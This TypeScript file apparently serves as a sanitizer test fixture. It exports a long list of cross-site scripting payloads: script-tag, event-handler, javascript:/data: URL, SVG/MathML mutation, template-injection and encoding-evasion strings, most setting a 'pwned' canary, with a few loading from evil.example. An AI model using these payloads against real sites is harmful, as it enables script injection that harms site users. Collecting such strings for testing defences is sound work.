const RUN = "window.pwned=1";
/** The same from within a frame or a window that was opened. */
const UP = "top.pwned=1";
const TAB = "\t";
const JS = `javascript:${RUN}`;
const PAGE = `<script>${UP}</script>`;

/** Scripts, and what closes whatever a careless page has put them in. */
const SCRIPTS = [
  ...["", " ", "/", "/x", " type=module", ' type="text/javascript"', " async", " nonce=x", "\n", TAB, "\f"],
  ...[" language=vbscript", " defer x"],
].map((inside) => `<script${inside}>${RUN}</script>`);
const OPENERS = [
  "ScRiPt",
  "SCRIPT",
  "scr<script>ipt",
  "<script",
  "script\u00a0",
  "svg:script",
  "script/src='data:,//'",
];
const CLOSERS = [
  ...["</script>", "</title>", "</textarea>", "</style>", "</noscript>", "</template>", "</select>", "</iframe>"],
  ...["</xmp>", "</noembed>", "</noframes>", "</plaintext>", "</math>", "</svg>", "</option>", "</head>", "</p></div>"],
  ...["-->", "--!>", "]]>", "*/", '">', "'>", "`>", "/>", "\\'>", '\\">', "</script x>", "%>", "?>", "}}", "*/-->"],
];
const scripts = [
  ...SCRIPTS,
  ...OPENERS.map((name) => `<${name}>${RUN}</script>`),
  ...CLOSERS.map((closer) => `${closer}<script>${RUN}</script>`),
  `<script src=data:,${RUN}></script>`,
  `<script src="data:text/javascript;base64,d2luZG93LnB3bmVkPTE="></script>`,
  `<script>import("data:text/javascript,${RUN}")</script>`,
  `<script>alert(document.domain)</script>`,
  `<script>${RUN}`,
  `<script>${RUN}<!--`,
];

/** Elements that tell of something by themselves: no one has to touch them. */
const HANDLERS = [
  ...["img src=x onerror", "img src=/icon.svg onload", "svg onload", "svg/onload", "body onload", "body onpageshow"],
  ...["body onfocus", "body onresize", "iframe onload", "iframe src=/icon.svg onload", "video src=x onerror"],
  ...["audio src=x onerror", "video><source onerror", "object data=x onerror", "embed src=/icon.svg onload"],
  ...[
    "input type=image src=x onerror",
    "input autofocus onfocus",
    "select autofocus onfocus",
    "keygen autofocus onfocus",
  ],
  ...["textarea autofocus onfocus", "a href autofocus onfocus", "button autofocus onfocus", "details open ontoggle"],
  ...["marquee onstart", "marquee loop=1 width=0 onfinish", "link rel=stylesheet href=/icon.svg onload"],
  ...[
    "link rel=stylesheet href=x onerror",
    "style onload",
    "script src=x onerror",
    "frameset onload",
    "image src=x onerror",
  ],
  ...["video autoplay src=x onloadstart", "audio autoplay onplay src=x", "x tabindex=1 autofocus onfocusin"],
  ...["div contenteditable autofocus onfocus", "b style=animation-name:x onanimationstart", "b onanimationend"],
  ...["b style=transition:1s ontransitionrun", "dialog open onclose", "div onscroll", "div onbeforescriptexecute"],
  ...["svg><animate attributeName=x dur=1s onbegin", "svg><set attributeName=x onbegin", "svg><image href=x onerror"],
  ...["div popover ontoggle", "div onbeforetoggle popover", "div hidden=until-found onbeforematch", "form oninput"],
  ...["div onpointerrawupdate", "div onpointerover", "div onmouseover", "div onauxclick", "div oncontextmenu"],
].map((element) => `<${element}=${RUN}>`);
const handlers = [
  ...HANDLERS,
  `<img src=x onerror="${RUN}"//`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x ONERROR=${RUN}>`,
  `<img src=x onerror\n=\n${RUN}>`,
  `<img src=x onerror=&#119;indow.pwned=1>`,
  `<img src=x onerror="window['pw'+'ned']=1">`,
  `<img src=x onerror=eval(atob('d2luZG93LnB3bmVkPTE='))>`,
  `<img src=x onerror=alert\`1\`>`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `" autofocus onfocus="${RUN}`,
  `" onerror=${RUN} src=x x="`,
  `' onmouseover='${RUN}`,
  `' autofocus onfocus='${RUN}`,
  `x onfocus=${RUN} autofocus`,
  `\` onload=${RUN} \``,
];

/** Addresses that are code. */
const ADDRESSES = [
  ...[JS, `JaVaScRiPt:${RUN}`, ` ${JS}`, `\u0001${JS}`, `java&Tab;script:${RUN}`, `java${TAB}script:${RUN}`],
  ...[`java\nscript:${RUN}`, `javascript&colon;${RUN}`, `&#106;avascript:${RUN}`, `&#x6A;avascript:${RUN}`],
  ...[`javascript://x%0a${RUN}`, `javascript:/*x*/${RUN}`, `vbscript:${RUN}`, `data:text/html,${PAGE}`],
  ...["data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==", `data:image/svg+xml,<svg>${PAGE}</svg>`],
  ...[`view-source:${JS}`, `blob:${JS}`, `feed:${JS}`, `//evil.example/${RUN}`, `https://evil.example/"${RUN}`],
];
const addresses = [
  ...ADDRESSES,
  ...ADDRESSES.slice(0, 10).map((address) => `<a href="${address}" autofocus>x</a>`),
  `<iframe src="${JS}"></iframe>`,
  `<iframe srcdoc="${PAGE}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${UP}&lt;/script&gt;"></iframe>`,
  `<object data="${JS}"></object>`,
  `<object data="data:text/html,${PAGE}"></object>`,
  `<embed src="data:text/html,${PAGE}">`,
  `<form action="${JS}"><button autofocus>x</button></form>`,
  `<form id=f></form><button form=f formaction="${JS}">x</button>`,
  `<meta http-equiv=refresh content="0;url=${JS}">`,
  `<meta http-equiv="refresh" content="0;url=//evil.example">`,
  `<base href="javascript:/a/+${RUN}//">`,
  `<base href=//evil.example/>`,
  `<link rel=import href="data:text/html,${PAGE}">`,
  `<link rel=stylesheet href="data:text/css,*{background:url(//evil.example)}">`,
  `<style>@import 'javascript:${RUN}';</style>`,
  `<style>@import '//evil.example/x.css'</style>`,
  `<div style="background:url(${JS})">x</div>`,
  `<div style="width:expression(${RUN})">x</div>`,
  `<table background="${JS}"><td>x`,
  `<portal src="${JS}"></portal>`,
];

/** Elements of other kinds, and what a cleaner makes dangerous only by cleaning it. */
const foreign = [
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<svg><script>&#119;indow.pwned=1</script></svg>`,
  `<svg><a xlink:href="${JS}"><text y=20>x</text></a></svg>`,
  `<svg><a><animate attributeName=href values="${JS}"/><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x">`,
  `<svg><foreignObject><iframe src="${JS}"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg><desc><![CDATA[</desc><script>${RUN}</script>]]></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<math href="${JS}">x</math>`,
  `<math><maction actiontype="statusline#${JS}">x</maction></math>`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<p id="<!--"><img src=x onerror=${RUN}>-->`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!-- --!><img src=x onerror=${RUN}> -->`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<select><noembed></select><script x='a@b'>${RUN}</script>`,
  `<table><td><a title="</td></table><img src=x onerror=${RUN}>">`,
  `<img src="x\`><script>${RUN}</script>"\`>`,
  `<isindex type=image src=x onerror=${RUN}>`,
  `<form id=x tabindex=0 onfocus=${RUN}><input id=attributes>`,
  `<a id=defaultView><a id=defaultView name=location href=${JS}>`,
  `<?xml-stylesheet href="${JS}"?><img src=x onerror=${RUN}>`,
];

/** Text that something other than a browser's parser might run, or turn into what the parser runs. */
const others = [
  `{{constructor.constructor('${RUN}')()}}`,
  `{{$on.constructor('${RUN}')()}}`,
  `{{7*7}}<img src=x onerror=${RUN}>`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{% raw %}<script>${RUN}</script>{% endraw %}`,
  `[[\${${RUN}}]]`,
  `\`-${RUN}-\``,
  `'-${RUN}-'`,
  `"-${RUN}-"`,
  `';${RUN}//`,
  `";${RUN}//`,
  `\\';${RUN}//`,
  `\\";${RUN}//`,
  `\u2028${RUN}//`,
  `\u2029${RUN}//`,
  `[x](${JS})`,
  `[x](data:text/html,${PAGE})`,
  `![x](x"onerror="${RUN})`,
  `![x](x){onerror=${RUN}}`,
  `<${JS}>`,
  `[x]: ${JS}`,
  `\`\`\`\n</code><script>${RUN}</script>\n\`\`\``,
  `</script>{"__proto__":{"innerHTML":"<img src=x onerror=${RUN}>"}}`,
  `{"a":"</script><script>${RUN}</script>"}`,
  `"}]);</script><script>self.__next_f.push=0;${RUN}</script>`,
  `"]);self.__next_f.push([1,"x"]);${RUN};([1,"`,
  `$L1`,
  `$F${RUN}`,
  `{"$$typeof":"Symbol(react.element)","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}}`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
  `\\74script\\76${RUN}\\74/script\\76`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `%253Cscript%253E${RUN}%253C/script%253E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${RUN}&#x3e;`,
  `＜script＞${RUN}＜/script＞`,
  `﹤img src=x onerror=${RUN}﹥`,
  `‹script›${RUN}‹/script›`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\u202e>tpircs/<1=denwp.wodniw>tpircs<`,
  `<\u200bscript>${RUN}</script>`,
  `\ufeff<script>${RUN}</script>`,
  `<ſcript>${RUN}</ſcript>`,
  `ʼ onfocus=${RUN} autofocus ʼ`,
  `<img src=x on\u0131nput=${RUN}>`,
  `\ud7ff<img src=x onerror=${RUN}>\ue000`,
];

/** Texts that have run as script on some page of the world where they were shown carelessly; all differ. */
export const PAYLOADS: readonly string[] = [...scripts, ...handlers, ...addresses, ...foreign, ...others];
